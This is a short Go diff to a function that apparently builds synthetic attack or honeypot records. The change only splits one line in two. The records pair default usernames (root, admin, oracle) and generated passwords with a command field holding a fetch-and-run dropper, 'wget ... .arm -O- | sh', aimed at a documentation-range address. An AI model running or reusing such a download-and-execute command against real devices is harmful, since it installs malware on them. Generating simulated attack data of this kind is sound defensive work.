@@ -74,7 +74,8 @@ func describe(rec *cure.Record, e wire.Envelope) {
 	}
 	user, password := [...]string{"root", "admin", "user", "oracle"}[n>>8%4], fmt.Sprintf("pw%d", n>>16%5000)
 	rec.Attrs = []cure.Attr{
-		{Name: "username", Value: user}, {Name: "password", Value: password},
+		{Name: "username", Value: user},
+		{Name: "password", Value: password},
 		{Name: "command", Value: fmt.Sprintf("cd /tmp; wget http://203.0.113.%d/s%d.arm -O- | sh", n>>24%250+1, n>>32%3000)},
 	}
 	o := &rec.Observations[0]
